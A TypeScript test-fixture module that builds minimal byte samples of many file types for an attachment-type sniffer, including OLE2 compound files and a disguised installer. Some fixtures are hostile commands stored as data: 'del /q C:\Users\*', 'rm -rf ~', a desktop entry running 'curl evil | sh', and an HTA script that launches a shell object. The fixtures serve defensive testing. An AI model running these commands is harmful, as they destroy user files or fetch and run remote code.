// Minimal files of each kind the attachment sniffer knows, built in memory:
// the first bytes and structure a real file of that kind has.
import { zipSync } from 'fflate';

const text = (s: string) => new TextEncoder().encode(s);

export function bytesOf(...parts: (number[] | string | Uint8Array)[]): Uint8Array {
  const chunks = parts.map((p) => (typeof p === 'string' ? text(p) : Uint8Array.from(p)));
  const out = new Uint8Array(chunks.reduce((n, c) => n + c.length, 0));
  let at = 0;
  for (const c of chunks) {
    out.set(c, at);
    at += c.length;
  }
  return out;
}

const u32le = (n: number) => [n & 0xff, (n >> 8) & 0xff, (n >> 16) & 0xff, (n >>> 24) & 0xff];
const u16le = (n: number) => [n & 0xff, (n >> 8) & 0xff];
const pad = (n: number) => new Array<number>(n).fill(0);

export const SAMPLES = {
  jpeg: bytesOf([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10], 'JFIF', pad(32)),
  png: bytesOf([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13], 'IHDR', pad(32)),
  gif: bytesOf('GIF89a', [1, 0, 1, 0, 0, 0, 0]),
  webp: bytesOf('RIFF', u32le(100), 'WEBPVP8 ', pad(32)),
  bmp: bytesOf('BM', u32le(70), pad(4), u32le(54), u32le(40), pad(40)),
  tiff: bytesOf([0x49, 0x49, 0x2a, 0x00, 8, 0, 0, 0], pad(16)),
  tiffBigEndian: bytesOf([0x4d, 0x4d, 0x00, 0x2a, 0, 0, 0, 8], pad(16)),
  heic: bytesOf(u32le(0x18000000), 'ftypheic', pad(4), 'mif1heic', pad(16)),
  mp4: bytesOf([0, 0, 0, 0x20], 'ftypisom', pad(4), 'isomiso2avc1mp41', pad(16)),
  mov: bytesOf([0, 0, 0, 0x14], 'ftypqt  ', pad(4), 'qt  ', pad(16)),
  avi: bytesOf('RIFF', u32le(100), 'AVI LIST', pad(32)),
  webm: bytesOf([0x1a, 0x45, 0xdf, 0xa3, 0x9f, 0x42, 0x86, 0x81, 0x01, 0x42, 0x82, 0x84], 'webm', pad(16)),
  mkv: bytesOf([0x1a, 0x45, 0xdf, 0xa3, 0xa3, 0x42, 0x86, 0x81, 0x01, 0x42, 0x82, 0x88], 'matroska', pad(16)),
  pdf: bytesOf('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n%%EOF\n'),
  docx: zipSync({ '[Content_Types].xml': text('<Types/>'), '_rels/.rels': text('<Relationships/>'), 'word/document.xml': text('<w:document/>') }),
  xlsx: zipSync({ '[Content_Types].xml': text('<Types/>'), 'xl/workbook.xml': text('<workbook/>') }),
  pptx: zipSync({ '[Content_Types].xml': text('<Types/>'), 'ppt/presentation.xml': text('<presentation/>') }),
  docm: zipSync({ '[Content_Types].xml': text('<Types/>'), 'word/document.xml': text('<w:document/>'), 'word/vbaProject.bin': text('macro') }),
  plainZip: zipSync({ 'photos/1.jpg': text('x'), 'run.exe': text('MZ') }),
  jar: zipSync({ 'META-INF/MANIFEST.MF': text('Main-Class: A'), 'A.class': text('x') }),
  utf8Text: bytesOf('\ufeff客户投诉 2611-B-007\r\n不良数量: 12\tPCS\n'),
  csv: bytesOf('案件编号,客户,数量\r\n2611-B-007,华东电子,12\r\n'),
  /** "中文 报告" in GB18030 (two-byte) plus U+0080 (four-byte). */
  gb18030Text: bytesOf([0xd6, 0xd0, 0xce, 0xc4, 0x20, 0xb1, 0xa8, 0xb8, 0xe6, 0x0d, 0x0a, 0x81, 0x30, 0x81, 0x30]),
  batch: bytesOf('@echo off\r\ndel /q C:\\Users\\*\r\n'),
  hta: bytesOf('<html><head><HTA:APPLICATION/><script>new ActiveXObject("WScript.Shell").Run("calc")</script></head></html>'),
  desktopEntry: bytesOf('[Desktop Entry]\nType=Application\nExec=sh -c "curl evil | sh"\nName=照片\n'),
  shellScript: bytesOf('#!/bin/sh\nrm -rf ~\n'),
  exe: bytesOf('MZ', [0x90, 0, 3, 0, 0, 0, 4, 0], pad(50), 'This program cannot be run in DOS mode.'),
  elf: bytesOf([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], pad(32)),
  machO: bytesOf([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1], pad(32)),
  lnk: bytesOf([0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0x00, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46], pad(56)),
  wav: bytesOf('RIFF', u32le(100), 'WAVEfmt ', pad(32)),
  binary: bytesOf([0x00, 0x01, 0x02, 0x03, 0xfe, 0xff, 0x00, 0x1b]),
  escapes: bytesOf('report\u001b[31m red\n'),
} as const;

/** Class id of Windows Installer packages {000C1084-0000-0000-C000-000000000046}, in file byte order. */
export const MSI_CLSID = [0x84, 0x10, 0x0c, 0x00, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46];

/**
 * An OLE2 compound file (512-byte sectors) whose directory holds a root
 * entry with `clsid` and one stream per name (four entries per sector,
 * chained through the FAT).
 */
export function ole2(streams: string[], clsid: number[] = pad(16)): Uint8Array {
  const entries = ['Root Entry', ...streams];
  const dirSectors = Math.ceil(entries.length / 4);
  const size = 512;
  const b = new Uint8Array(size * (2 + dirSectors));
  const put = (at: number, bytes: number[]) => b.set(bytes, at);
  put(0, [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
  put(0x18, [...u16le(0x3e), ...u16le(3), ...u16le(0xfffe), ...u16le(9), ...u16le(6)]);
  put(0x2c, u32le(1)); // one FAT sector …
  put(0x30, u32le(1)); // … directory from sector 1
  put(0x38, u32le(4096));
  put(0x3c, u32le(0xfffffffe));
  put(0x44, u32le(0xfffffffe));
  for (let i = 0; i < 109; i++) put(0x4c + i * 4, u32le(i === 0 ? 0 : 0xffffffff));
  // FAT (sector 0 at byte 512): itself, then the directory's chain.
  const fat = [0xfffffffd, ...Array.from({ length: dirSectors }, (_, i) => (i === dirSectors - 1 ? 0xfffffffe : i + 2))];
  for (let i = 0; i < 128; i++) put(size + i * 4, u32le(fat[i] ?? 0xffffffff));
  entries.forEach((name, i) => {
    const at = size * 2 + i * 128;
    const utf16 = Array.from(name).flatMap((c) => u16le(c.charCodeAt(0)));
    put(at, [...utf16, 0, 0]);
    put(at + 64, u16le(utf16.length + 2));
    b[at + 66] = i === 0 ? 5 : 2;
    if (i === 0) put(at + 80, clsid);
  });
  return b;
}

export const OLE2 = {
  doc: ole2(['WordDocument', '1Table', '\u0005SummaryInformation', 'Data', 'CompObj']),
  xls: ole2(['Workbook', '\u0005SummaryInformation']),
  ppt: ole2(['PowerPoint Document', 'Current User', 'Pictures']),
  docWithMacros: ole2(['WordDocument', '1Table', 'Macros']),
  msi: ole2(['\u4840\u3f3f\u4577\u6c3f', '\u4840\u3b3f\u43f2\u4438'], MSI_CLSID),
  /** An installer that also carries a stream named like Word's: the class id still says installer. */
  msiDisguised: ole2(['WordDocument', '1Table'], MSI_CLSID),
  msg: ole2(['__properties_version1.0', '__substg1.0_0037001F']),
};
